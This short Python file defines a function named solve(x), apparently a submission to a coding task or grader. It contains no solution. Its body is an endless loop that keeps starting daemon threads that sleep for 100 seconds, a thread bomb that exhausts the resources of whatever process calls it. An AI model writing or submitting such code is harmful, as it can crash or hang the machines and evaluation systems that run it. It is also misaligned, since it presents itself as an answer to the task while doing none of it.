import threading
import time


def solve(x):
    while True:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
